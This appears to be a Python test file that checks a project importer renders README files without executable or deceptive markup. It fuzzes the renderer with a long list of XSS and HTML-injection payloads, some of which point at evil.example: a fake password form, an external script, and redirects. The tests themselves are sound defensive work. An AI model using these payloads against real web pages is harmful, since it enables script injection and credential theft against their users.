"""Nothing that a README holds may run, pose as the page, or call home."""

# ruff: noqa: E501 - a payload is one line

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from importer.analysis.analyse import analyse
from importer.snapshot import RepoSnapshot, SourceFile
from tests.unit.analysis.builders import snapshot, with_readme
from tests.unit.analysis.html_checker import problems

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<img src=`x` onerror=`alert(1)`>",
    "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>",
    "<input type=text value=x onfocus=alert(1) autofocus>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>body{display:none}</style>",
    "<div style='position:fixed;inset:0' id=progress class='overlay modal'>x</div>",
    "<div hx-get=/projects/1 hx-trigger=load data-hx-post=/x hx-on:load=alert(1)>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' target=_top ping=//evil.example>x</a>",
    "<a href='blob:x'>x</a><a href='file:///etc/passwd'>y</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x](x.png "\\" onerror=alert(1)")',
    "<javascript:alert(1)>",
    "<picture><source srcset='javascript:alert(1) 1x, data:x 2x'><img srcset='vbscript:x'></picture>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a name=x id=csrf_token>x</a><b id=main name=forms>y</b>",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)> heading",
    "[^<script>]: x\n\nx[^<script>]",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html [<!ENTITY x 'y'>]>",
    "</div></main></body><h1>Owned</h1>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<template><script>alert(1)</script></template><slot>",
    "<button formaction=javascript:alert(1)>x</button><isindex type=image src=1 onerror=alert(1)>",
    "<script>alert(1)</script><![x](javascript:alert(1))",
    "<![if gte IE 4]><script>alert(1)</script><![endif]>",
    "\x00<scr\x00ipt>alert(1)</script>",
]  # fmt: skip


def rendered(source: RepoSnapshot) -> str:
    readme = analyse(source).readme
    assert readme is not None
    return readme.html


def test_the_checker_sees_harm() -> None:
    assert problems("<p>fine <a href='https://x.example'>x</a></p>") == []
    assert problems("<p onclick=x></p>")
    assert problems("<script></script>")
    assert problems("<a href='javascript:x'></a>")
    assert problems("<p>")
    assert problems("<b id=progress></b>")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("path", ["README.md", "README.rst", "README"])
def test_payload_is_harmless_in_every_format(payload: str, path: str) -> None:
    assert problems(rendered(with_readme(payload, path))) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless_inside_other_markup(payload: str) -> None:
    around = f"<div align=center>\n\n- {payload}\n\n<p>{payload}</p></div>\n\n[{payload}](x)\n"
    assert problems(rendered(with_readme(around))) == []


def test_all_payloads_at_once_are_harmless() -> None:
    assert problems(rendered(with_readme("\n\n".join(PAYLOADS)))) == []


markup = st.lists(
    st.one_of(
        st.sampled_from(PAYLOADS),
        st.sampled_from(
            [*"<>&\"'`[]()!#*_|\\:-\n ", "\n\n", "    ", "```", "<!--", "href=", "<a "]
        ),
        st.text(max_size=8),
    ),
    max_size=25,
).map("".join)


@settings(max_examples=200, deadline=None)
@given(text=markup)
def test_any_markup_is_harmless(text: str) -> None:
    analysis = analyse(with_readme(text.encode("utf-8", "surrogatepass")))
    assert analysis.readme is not None
    assert problems(analysis.readme.html) == []
    assert not [warning for warning in analysis.warnings if warning.code == "ANALYSIS_PART_FAILED"]


@settings(max_examples=100, deadline=None)
@given(text=markup)
def test_any_markup_is_harmless_in_restructured_text(text: str) -> None:
    source = with_readme(text.encode("utf-8", "surrogatepass"), "README.rst")
    analysis = analyse(source)
    assert analysis.readme is not None
    assert problems(analysis.readme.html) == []
    assert not [warning for warning in analysis.warnings if warning.code == "ANALYSIS_PART_FAILED"]


PATHS = ["README.md", "pyproject.toml", "package.json", "pom.xml", "Gemfile", "compose.yaml",
         "setup.py", "setup.cfg", "go.mod", "Cargo.toml", "build.gradle", "mix.exs", "x.csproj",
         "requirements.txt", "Dockerfile", "pubspec.yaml", "composer.json", "Pipfile"]  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(path=st.sampled_from(PATHS), data=st.one_of(st.binary(max_size=200), markup.map(str.encode)))
def test_no_bytes_in_any_file_make_it_raise(path: str, data: bytes) -> None:
    file = SourceFile(path, data)
    analysis = analyse(snapshot(readmes=(file,), manifests=(file,), licence_files=(file,)))
    assert analysis.title == "name"
    assert not [warning for warning in analysis.warnings if warning.code == "ANALYSIS_PART_FAILED"]
